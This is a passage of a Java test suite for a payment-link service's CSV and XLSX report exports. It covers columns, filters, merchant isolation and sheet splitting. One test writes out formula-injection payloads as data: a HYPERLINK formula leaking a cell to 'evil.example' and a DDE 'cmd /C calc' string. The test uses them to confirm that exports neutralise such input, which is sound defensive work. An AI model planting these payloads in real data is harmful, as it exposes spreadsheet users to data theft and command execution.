        assertThat(file.contentDisposition()).contains("linkpos-raporu-" + LocalDate.now(ISTANBUL) + ".csv");
        List<List<String>> rows = csv(file, ',');
        assertThat(rows.get(0)).containsExactlyElementsOf(LINK_REPORT_HEADER_TR);
        Map<String, Map<String, String>> byOrder = byColumn(rows, "Sipariş No");
        assertThat(byOrder.keySet()).containsExactlyInAnyOrderElementsOf(orderNumbers.values());

        Map<String, String> b = byOrder.get(orderNumbers.get("B"));
        assertThat(b).containsEntry("Başarılı Ödeme", "2").containsEntry("Tahsil Edilen", "37800.00")
                .containsEntry("Döviz", "TRY").containsEntry("Kullanım Tipi", "MULTI").containsEntry("Durum", "ACTIVE");
        Instant lastB = isoPlusThree(b.get("Son ödeme"));
        Instant firstSale = instant(transaction(saleB1).path("createdAt"));
        Instant secondSale = instant(transaction(saleB2).path("createdAt"));
        Instant declined = instant(transaction(declinedB).path("createdAt"));
        assertThat(lastB).as("the last payment, not the first nor the declined attempt")
                .isAfter(declined).isAfter(firstSale).isBeforeOrEqualTo(secondSale);
        assertThat(Duration.between(lastB, secondSale)).isLessThan(Duration.ofSeconds(5));

        Map<String, String> a = byOrder.get(orderNumbers.get("A"));
        assertThat(a).containsEntry("Başarılı Ödeme", "1").containsEntry("Tahsil Edilen", "1250.50").containsEntry("Durum", "USED");
        Instant saleTimeA = instant(transaction(saleA).path("createdAt"));
        assertThat(Duration.between(isoPlusThree(a.get("Son ödeme")), saleTimeA).abs()).isLessThan(Duration.ofSeconds(5));
        assertThat(byOrder.get(orderNumbers.get("C"))).containsEntry("Tahsil Edilen", "18900").containsEntry("Döviz", "JPY");
        assertThat(byOrder.get(orderNumbers.get("D"))).containsEntry("Son ödeme", "").containsEntry("Başarılı Ödeme", "0")
                .containsEntry("Tahsil Edilen", "0.00").containsEntry("Döviz", "USD");
        JsonNode linkB = linkJson("B");
        assertThat(isoPlusThree(b.get("Oluşturulma"))).isEqualTo(instant(linkB.path("createdAt")));
        assertThat(isoPlusThree(b.get("Bitiş"))).isEqualTo(instant(linkB.path("validUntil")));

        // the report's status filter reaches its export
        List<List<String>> used = csv(of(admin.download("/reports/links/export?format=csv&status=USED")), ',');
        assertThat(byColumn(used, "Sipariş No").keySet()).containsExactlyInAnyOrder(orderNumbers.get("A"), orderNumbers.get("C"));
        // and decimal=comma there too
        Bytes commaFile = of(admin.download("/reports/links/export?format=csv&decimal=comma&status=ACTIVE"));
        assertThat(commaFile.contentDisposition()).as("each variant its own file name")
                .contains("linkpos-raporu-" + LocalDate.now(ISTANBUL) + "-excel.csv");
        List<List<String>> comma = csv(commaFile, ';');
        assertThat(byColumn(comma, "Sipariş No").get(orderNumbers.get("B"))).containsEntry("Tahsil Edilen", "37800,00")
                .as("the file people open says it in words; the CSV for programs keeps the codes")
                .containsEntry("Durum", "Aktif").containsEntry("Kullanım Tipi", "Çok Kullanımlık");
    }

    @Test
    @DisplayName("Portal İşlem Arama «Dışa Aktar»: the export links carry the search criteria")
    void portalTransactionExportCarriesTheCriteria() {
        PortalSession admin = PortalSession.loggedIn(port, merchant);
        var page = admin.get("/reports/transactions?status=DECLINED");
        String csvHref = page.document().selectFirst("#export-csv").attr("href");
        assertThat(csvHref).contains("status=DECLINED");
        List<List<String>> rows = csv(of(admin.download(csvHref)), ',');
        assertThat(rows.get(0)).containsExactlyElementsOf(TX_HEADER_TR);
        assertThat(byColumn(rows, "İşlem no").keySet()).containsExactly(declinedB);

        String commaHref = admin.get("/reports/transactions?currency=JPY").document().selectFirst("#export-csv-comma").attr("href");
        List<List<String>> comma = csv(of(admin.download(commaHref)), ';');
        assertThat(byColumn(comma, "İşlem no").keySet()).containsExactly(saleC);
        assertThat(byColumn(comma, "İşlem no").get(saleC)).containsEntry("Tutar", "18900");

        String xlsxHref = admin.get("/reports/transactions?cardLast4=6111").document().selectFirst("#export-xlsx").attr("href");
        Bytes xlsx = of(admin.download(xlsxHref));
        assertThat(xlsx.contentDisposition()).contains("islemler-");
        try (XSSFWorkbook workbook = xlsx(xlsx)) {
            assertThat(workbook.getSheetAt(0).getLastRowNum()).isEqualTo(1);
            assertThat(workbook.getSheetAt(0).getRow(1).getCell(1).getStringCellValue()).isEqualTo(saleA);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    // ---------------------------------------------------------------- isolation

    @Test
    @DisplayName("Another merchant's exports (API and portal) never hold this merchant's rows")
    void anotherMerchantSeesOnlyItsOwnRows() {
        Set<String> mine = new java.util.HashSet<>(allTransactions());
        mine.addAll(orderNumbers.values());
        mine.addAll(linkIds.values());

        List<String> files = new ArrayList<>();
        Consumer<Bytes> keep = file -> {
            assertThat(file.status()).isEqualTo(200);
            files.add(file.text());
        };
        keep.accept(apiDownload(other.key(), "/api/v1/transactions/export?format=csv", "tr"));
        keep.accept(apiDownload(other.key(), "/api/v1/transactions/export?format=csv&from=2020-01-01&to=2099-12-31", "tr"));
        keep.accept(apiDownload(other.key(), "/api/v1/transactions/export?format=csv&linkId=" + linkIds.get("A"), "tr"));
        keep.accept(apiDownload(other.key(), "/api/v1/links/export?format=csv", "tr"));
        PortalSession otherAdmin = PortalSession.loggedIn(port, other);
        keep.accept(of(otherAdmin.download("/reports/transactions/export?format=csv&from=2020-01-01&to=2099-12-31")));
        keep.accept(of(otherAdmin.download("/reports/links/export?format=csv")));
        keep.accept(of(otherAdmin.download("/links/export?format=csv")));

        for (String file : files) {
            for (String value : mine) {
                assertThat(file).doesNotContain(value);
            }
        }
        assertThat(files.get(0)).contains(otherSale).contains(otherOrderNumber);
        assertThat(files.get(3)).contains(otherOrderNumber);
        assertThat(files.get(4)).contains(otherSale);
        assertThat(files.get(5)).contains(otherOrderNumber);

        try (XSSFWorkbook workbook = xlsx(of(otherAdmin.download("/links/export?format=xlsx")))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(1);
            assertThat(sheet.getRow(1).getCell(0).getStringCellValue()).isEqualTo(otherOrderNumber);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        // and without a key or a login there is no file at all
        assertThat(apiDownload("", "/api/v1/transactions/export?format=csv", "tr").status()).isEqualTo(401);
        Download anonymous = new PortalSession(port).download("/reports/transactions/export?format=csv");
        assertThat(anonymous.status()).isEqualTo(302);
    }

    @Test
    @DisplayName("A payer's note that looks like a formula stays text: neutralised in every CSV (API, both variants, and the portal's), a string cell in XLSX")
    void aPayersFormulaIsNeverRunByASpreadsheet() throws IOException {
        Merchant shop = api.newMerchant();
        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Fatura\")",
                "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1,1)");
        Api.Response created = api.post(shop.key(), "/api/v1/links",
                Api.json(Map.of("amount", "10.00", "payerNoteEnabled", true, "usage", "MULTI")));
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        String token = Api.tokenOf(created.json().path("url").asString());
        Map<String, String> saleOf = new LinkedHashMap<>();
        formulas.forEach(formula -> saleOf.put(formula, pay(token, "4155650100416111", formula, true)));

        PortalSession admin = PortalSession.loggedIn(port, shop);
        Map<String, List<List<String>>> csvs = Map.of(
                "API, for programs", csv(apiDownload(shop.key(), "/api/v1/transactions/export?format=csv", "tr"), ','),
                "API, for Excel", csv(apiDownload(shop.key(), "/api/v1/transactions/export?format=csv&decimal=comma", "tr"), ';'),
                "portal, default", csv(of(admin.download("/reports/transactions/export?format=csv")), ','));
        csvs.forEach((which, rows) -> formulas.forEach(formula ->
                assertThat(byColumn(rows, "İşlem no").get(saleOf.get(formula)).get("Ödeyen açıklaması"))
                        .as("%s: %s", which, formula).isEqualTo("'" + formula)));
        try (XSSFWorkbook workbook = xlsx(apiDownload(shop.key(), "/api/v1/transactions/export?format=xlsx", "tr"))) {
            List<String> notes = new ArrayList<>();
            for (int row = 1; row <= workbook.getSheetAt(0).getLastRowNum(); row++) {
                Cell note = workbook.getSheetAt(0).getRow(row).getCell(17);
                assertThat(note.getCellType()).isEqualTo(CellType.STRING);
                notes.add(note.getStringCellValue());
            }
            assertThat(notes).as("a string cell is never run: the data itself").containsExactlyInAnyOrderElementsOf(formulas);
        }
    }

    // ---------------------------------------------------------------- the benchmark's yardsticks

    @Test
    @DisplayName("The benchmark's yardsticks read the export's rows: PostgreSQL's COPY of the export's query and both XLSX "
            + "writers get every transaction of the merchant in the range, and no other")
    void theBenchmarksYardsticksReadTheExportsRows() throws Exception {
        LocalDate today = LocalDate.now(ISTANBUL);
        Instant from = today.atStartOfDay(ISTANBUL).toInstant();
        Instant to = today.plusDays(1).atStartOfDay(ISTANBUL).toInstant();
        List<String> streamed = new ArrayList<>();
        com.linkpos.transaction.ExportRows.stream(db, merchant.id(), from, to, transaction -> streamed.add(transaction.id()));
        assertThat(streamed).containsExactlyInAnyOrderElementsOf(allTransactions());

        List<String> copied = new ArrayList<>();
        try (java.sql.Connection connection = db.getConnection()) {
            connection.setAutoCommit(false);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            long rows = connection.unwrap(org.postgresql.PGConnection.class).getCopyAPI().copyOut("COPY ("
                    + com.linkpos.transaction.ExportRows.sql(merchant.id(), from, to) + ") TO STDOUT (FORMAT csv, HEADER)", out);
            connection.rollback();
            try (CSVParser parser = CSVFormat.DEFAULT.builder().setHeader().get()
                    .parse(new StringReader(out.toString(StandardCharsets.UTF_8)))) {
                parser.forEach(record -> copied.add(record.get("id")));
            }
            assertThat(rows).isEqualTo(copied.size());
        }
        assertThat(copied).as("COPY: the same rows in the same order").containsExactlyElementsOf(streamed);

        for (XlsxWriters.Library library : XlsxWriters.Library.values()) {
            XlsxWriters.Run run = XlsxWriters.run(library, db, merchant.id(), from, to);
            assertThat(run.rows()).as("%s", library).isEqualTo(allTransactions().size());
            assertThat(run.bytes()).as("%s", library).isPositive();
        }
    }

    // ---------------------------------------------------------------- the sheet split, unit level

    @Test
    @DisplayName("XLSX past the rows of a sheet: the rows go on in the next sheet, each with the header (3 per sheet, 7 rows → 3, 3, 1)")
    void rowsGoOnInTheNextSheet() throws IOException {
        Locale turkish = Locale.forLanguageTag("tr-TR");
        StaticMessageSource messages = new StaticMessageSource();
        messages.addMessage("h.name", turkish, "Ad");
        messages.addMessage("h.amount", turkish, "Tutar");
        messages.addMessage("h.time", turkish, "Zaman");
        messages.addMessage("sheet", turkish, "Satırlar");
        Exporter exporter = new Exporter(messages);
        record Item(String name, Money amount, Instant time) {
        }
        List<Column<Item>> columns = List.of(Column.text("h.name", Item::name), Column.money("h.amount", Item::amount),
                Column.dateTime("h.time", Item::time));
        Instant base = Instant.parse("2026-11-27T09:30:15Z");
        List<Item> items = new ArrayList<>();
        for (int i = 1; i <= 7; i++) {
            items.add(new Item("satır-" + i, new Money(100L * i + i, Currency.TRY), base.plusSeconds(60L * i)));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        exporter.xlsx(out, columns, turkish, "sheet", items::forEach, 3);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertThat(workbook.getNumberOfSheets()).isEqualTo(3);
            assertThat(List.of(workbook.getSheetName(0), workbook.getSheetName(1), workbook.getSheetName(2)))
                    .containsExactly("Satırlar", "Satırlar 2", "Satırlar 3");
            int[] expectedRows = {3, 3, 1};
            List<String> names = new ArrayList<>();
            for (int s = 0; s < 3; s++) {
                Sheet sheet = workbook.getSheetAt(s);
                assertThat(headerOf(sheet)).as("header of sheet %s", s + 1).containsExactly("Ad", "Tutar", "Zaman");
                assertThat(sheet.getLastRowNum()).as("data rows of sheet %s", s + 1).isEqualTo(expectedRows[s]);
                assertThat(sheet.getPhysicalNumberOfRows()).isEqualTo(expectedRows[s] + 1);
                for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                    Row row = sheet.getRow(r);
                    names.add(row.getCell(0).getStringCellValue());
                    int i = Integer.parseInt(row.getCell(0).getStringCellValue().substring(6));
                    assertThat(row.getCell(1).getNumericCellValue()).isCloseTo(i + i / 100.0, within(1e-9));
                    assertThat(row.getCell(2).getLocalDateTimeCellValue())
                            .isEqualTo(LocalDateTime.ofInstant(base.plusSeconds(60L * i), ISTANBUL));
                }
            }
            assertThat(names).as("every row once, in order, none lost at a sheet boundary")
                    .containsExactly("satır-1", "satır-2", "satır-3", "satır-4", "satır-5", "satır-6", "satır-7");
        }

        // exactly a sheet's worth stays in one sheet; one more starts the next
        for (int count : new int[] {3, 4}) {
            ByteArrayOutputStream again = new ByteArrayOutputStream();
            exporter.xlsx(again, columns, turkish, "sheet", each -> items.subList(0, count).forEach(each), 3);
            try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(again.toByteArray()))) {
                assertThat(workbook.getNumberOfSheets()).as("sheets for %s rows", count).isEqualTo(count == 3 ? 1 : 2);
            }
        }
    }
}
